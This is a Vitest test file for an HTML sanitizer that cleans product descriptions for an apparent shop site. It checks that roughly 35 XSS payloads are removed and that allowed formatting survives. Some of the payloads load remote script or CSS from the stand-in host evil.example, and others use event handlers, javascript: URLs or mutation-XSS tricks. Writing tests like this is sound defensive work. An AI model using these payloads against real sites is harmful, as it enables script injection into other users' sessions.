// @vitest-environment jsdom
import { describe, expect, it } from 'vitest';
import { sanitizeItemHtml } from './sanitize-html.ts';

const PAYLOADS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<body onload=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="javascript:alert(1)">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<form action="javascript:alert(1)"><button>x</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror=alert(1)></video>',
  '<p onclick="alert(1)">x</p>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<li onmouseover=alert(1)>x',
  '<h3 id=x tabindex=1 onfocus=alert(1)>x</h3>',
  '<br onload=alert(1)>',
  '<style>@import "//evil.example/x.css"</style>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<base href="//evil.example/">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<!--><script>alert(1)</script>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<p>نص عربي<script>alert(1)</script> بعده</p>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
] as const;

const ALLOWED = new Set(['P', 'UL', 'OL', 'LI', 'STRONG', 'EM', 'H3', 'BR']);

describe('sanitizeHtml', () => {
  it.each(PAYLOADS)('removes scripts, external resources and links from %s', (payload) => {
    const { body } = new DOMParser().parseFromString(
      `<body>${sanitizeItemHtml(payload)}</body>`,
      'text/html',
    );
    const elements = [...body.querySelectorAll('*')];
    expect(
      elements
        .filter((element) => !ALLOWED.has(element.tagName))
        .map((element) => element.outerHTML),
    ).toEqual([]);
    expect(elements.flatMap((element) => element.getAttributeNames())).toEqual([]);
  });

  it('keeps the text and the tags that descriptions use', () => {
    const html =
      '<h3>عنوان</h3><p>نص <strong>مهم</strong> و<em>مائل</em><br />سطر</p><ul><li>أ</li></ul><ol><li>b</li></ol>';
    expect(sanitizeItemHtml(html)).toBe(html);
  });

  it('returns sanitized HTML unchanged', () => {
    for (const payload of [...PAYLOADS, '<p>Medjool with Almond & Orange, 5 < 6</p>']) {
      const once = sanitizeItemHtml(payload);
      expect(sanitizeItemHtml(once)).toBe(once);
    }
  });

  it.each([
    ['<div>First line</div><div>Second line</div>', '<p>First line</p><p>Second line</p>'],
    ['<div><p>One</p>Two</div>', '<p>One</p><p>Two</p>'],
    ['<h1>Big</h1>text<h6>Small</h6>', '<h3>Big</h3><p>text</p><h3>Small</h3>'],
    ['<h2>Ingredients</h2><span>Honey</span>', '<h3>Ingredients</h3><p>Honey</p>'],
    [
      '<table><tr><th>Weight</th><td>500 g</td></tr><tr><td>Origin</td><td>Yemen</td></tr></table>',
      '<p>Weight 500 g</p><p>Origin Yemen</p>',
    ],
    ['<dl><dt>Size</dt><dd>XL</dd></dl>', '<p>Size</p><p>XL</p>'],
    ['<section>a</section><hr>b<blockquote>c</blockquote>d', '<p>a</p><p>b</p><p>c</p><p>d</p>'],
    ['<figure>a<figcaption>b</figcaption></figure>', '<p>a</p><p>b</p>'],
    ['<pre>a\nb</pre>', '<p>a<br />b</p>'],
    ['<b>bold</b> and <i>slanted</i>', '<p><strong>bold</strong> and <em>slanted</em></p>'],
    ['<p><b>a</b><b>b</b><strong><b>c</b></strong></p>', '<p><strong>abc</strong></p>'],
    ['<b>a<p>b</p></b>c', '<p><strong>a</strong></p><p><strong>b</strong></p><p>c</p>'],
    ['one<br><br/>two<br>', '<p>one<br /><br />two</p>'],
    [
      '<ul><li><p>a</p><p>b</p></li><li><div>c</div></li></ul>',
      '<ul><li>a<br />b</li><li>c</li></ul>',
    ],
    ['<ol><li>a<ul><li>b</li></ul></li></ol>', '<ol><li>a<ul><li>b</li></ul></li></ol>'],
    ['<li>a</li>b', '<p>a</p><p>b</p>'],
    ['<p>&nbsp;</p><p>a&nbsp;b &amp; c</p>', '<p>a\u00a0b &amp; c</p>'],
    ['a<span>b</span><a href="/x">c</a>', '<p>abc</p>'],
    ['a<script>x</script>b', '<p>a b</p>'],
    ['First\nsecond\n\n\nThird', '<p>First<br />second</p><p>Third</p>'],
    ['First\r\nwith <b>bold</b>', '<p>First<br />with <strong>bold</strong></p>'],
    ['<p>a\nb</p>', '<p>a b</p>'],
    [
      'First.\n\nSecond.\n<ul><li>One</li></ul>\nLast words.\n\nVery last.',
      '<p>First.</p><p>Second.</p><ul><li>One</li></ul><p>Last words.</p><p>Very last.</p>',
    ],
    ['<h2>Title</h2>\nأول\n\nثان\nسطر\n', '<h3>Title</h3><p>أول</p><p>ثان<br />سطر</p>'],
    ['Line one\nLine two\n<p>Para</p>', '<p>Line one Line two</p><p>Para</p>'],
    ['Line one\nLine two\n\n<p>Para</p>', '<p>Line one<br />Line two</p><p>Para</p>'],
    ['a<br>\nb\n \t\nc\nd', '<p>a<br />b</p><p>c<br />d</p>'],
    [
      '<div>\n  <b>a\n\nb</b> &amp;\n c\n</div>',
      '<p><strong>a</strong></p><p><strong>b</strong> &amp; c</p>',
    ],
    ['<div><div>a</div>\n\nb\n\nc</div>d\n\ne', '<p>a</p><p>b</p><p>c</p><p>d</p><p>e</p>'],
    ['<ul><li>a\n\nb</li></ul>', '<ul><li>a b</li></ul>'],
    ['a\n\n<style>p{}\n\n</style>b\nc', '<p>a</p><p>b<br />c</p>'],
    ['<pre>a\n\nb</pre>\n\nc', '<p>a</p><p>b</p><p>c</p>'],
    ['', ''],
    ['  \n ', ''],
  ])('keeps the words and lines of %j apart', (html, expected) => {
    const once = sanitizeItemHtml(html);
    expect(once).toBe(expected);
    expect(sanitizeItemHtml(once)).toBe(once);
  });

  it('sanitizeHtml takes time in proportion to the length of the text', () => {
    for (const part of ['<div>', '<b>', '<ul><li>', '<', '&', '\n', '<p', '<!--', '</li>']) {
      const startedAt = performance.now();
      sanitizeItemHtml(part.repeat(20_000 / part.length));
      expect([part, performance.now() - startedAt < 2_000]).toEqual([part, true]);
    }
  });
});
